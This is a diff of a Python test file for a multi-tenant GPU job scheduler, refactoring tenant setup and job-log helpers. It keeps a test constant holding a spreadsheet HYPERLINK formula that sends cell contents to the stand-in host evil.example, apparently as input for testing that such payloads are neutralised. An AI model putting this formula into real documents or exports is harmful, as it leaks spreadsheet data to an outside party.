@@ -26,6 +26,7 @@ from tests.support.agents import (  # noqa: F401 (the fixture kills leftover wor
 )
 from tests.support.cluster import ok, submit
 from tests.support.live import live_server
+from tests.support.tenants import alpha_and_beta, job_log
 
 FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"open me")'
 
@@ -73,28 +74,14 @@ def test_an_mps_pipe_of_the_jobs_own_choosing_is_refused(tmp_path):
 
 
 def _root_agent(srv, tmp_path, work_root, **config):
-    admin = srv.admin()
-    for team in ("alpha", "beta"):
-        ok(admin.post("/api/v1/tenants", json={"name": team}), 201)
-        ok(admin.put(f"/api/v1/tenants/{team}/quotas/gpu", json={"resource": "gpu", "nominal": 2}))
+    admin = alpha_and_beta(srv.admin(), 2)
     token = srv.token("agent-n1", "agent", node="n1")
     isolation = IsolationConfig(mode="tenant-users", user_prefix="gpt-", work_dir=work_root,
                                 network=False, **config)  # fmt: skip
     return admin, make_agent(srv.url, token, "n1", tmp_path / "a", isolation=isolation)
 
 
-@pytest.fixture
-def work_root():
-    import shutil
-    import tempfile
-
-    path = Path(tempfile.mkdtemp(prefix="gpupool-test-work-", dir="/var/tmp"))
-    yield path
-    shutil.rmtree(path, ignore_errors=True)
-
-
-def _log(admin, job_id: int) -> str:
-    return "".join(c["text"] for c in admin.get(f"/api/v1/jobs/{job_id}/logs").json()["chunks"])
+_log = job_log
 
 
 def _run(admin, tenant: str, command: list[str]) -> tuple[dict, str]:
